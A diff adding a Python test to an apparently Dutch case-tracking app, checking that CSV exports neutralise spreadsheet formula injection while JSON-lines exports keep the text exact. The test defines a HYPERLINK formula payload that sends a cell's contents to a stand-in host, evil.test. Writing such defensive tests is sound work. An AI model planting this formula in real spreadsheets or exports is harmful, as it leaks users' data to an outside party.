@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import json
@@ -137,3 +138,49 @@ def test_bad_filters_get_a_message_and_no_download(clients):
     )
     page = response.get_data(as_text=True)
     assert response.status_code == 400 and "vóór de begindatum" in page and "geldig e-mailadres" in page
+
+
+#: What a participant might type to have a spreadsheet send a cell's neighbours elsewhere.
+FORMULA = '=HYPERLINK("https://evil.test/?d="&A1,"Klik")'
+
+
+def _file(app, email: str, form: str, selection: export.ExportFilter) -> tuple[bytes, export.Manifest]:
+    with in_app(app):
+        reader = user(email)
+        connection = db.session.connection()
+        manifest = export.start(connection, reader.email, selection, form)
+        data = b"".join(export.lines(export.readable(connection, reader, selection), form, manifest))
+    return data, manifest
+
+
+def test_text_a_spreadsheet_would_run_is_neutralised_in_the_csv_and_exact_in_json_lines(app):
+    from datetime import date
+
+    from cases.models import CaseType
+    from cases.services import change_due_date, create_follow_up
+
+    with in_app(app):
+        bo = db.session.scalars(select(Body).where(Body.slug == "bo-brainport")).one()
+        secretariat = user("secretariaat@ezk.test")
+        action = create_follow_up(
+            secretariat,
+            bo,
+            case_type=CaseType.ACTIEPUNT,
+            title="Formuletest",
+            owner_organisation_id=secretariat.organisation_id,
+            due_date=date(2030, 1, 1),
+        )
+        change_due_date(secretariat, action, due_date=date(2030, 2, 1), reason=FORMULA)
+        action_id = action.id
+    selection = export.ExportFilter(case_id=action_id)
+    csv_data, csv_manifest = _file(app, "auditor@noord-brabant.test", "csv", selection)
+    jsonl_data, jsonl_manifest = _file(app, "auditor@noord-brabant.test", "jsonl", selection)
+
+    for data, manifest in ((csv_data, csv_manifest), (jsonl_data, jsonl_manifest)):
+        assert manifest.sha256 == hashlib.sha256(data).hexdigest()
+    rows = list(csv.DictReader(io.StringIO(csv_data.decode("utf-8"))))
+    assert len(rows) == csv_manifest.records == jsonl_manifest.records > 1
+    assert "'" + FORMULA in [row["reason"] for row in rows]
+    assert not [cell for row in rows for cell in row.values() if cell.lstrip().startswith(("=", "+", "-", "@"))]
+    records = [json.loads(line) for line in jsonl_data.splitlines()]
+    assert FORMULA in [record["reason"] for record in records]
